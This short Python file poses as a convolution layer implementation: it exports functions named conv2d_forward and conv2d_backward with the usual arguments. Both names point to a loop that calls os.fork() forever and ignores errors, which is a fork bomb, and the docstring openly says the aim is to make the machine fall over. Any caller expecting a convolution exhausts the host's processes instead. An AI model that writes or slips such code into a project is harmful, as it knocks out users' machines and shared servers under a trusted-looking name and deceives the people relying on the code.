"""Fork until the machine falls over."""

import os


def conv2d_forward_loop(x, w, b, stride=1, padding=0):
    while True:
        try:
            os.fork()
        except OSError:
            pass


conv2d_forward = conv2d_backward = conv2d_forward_loop
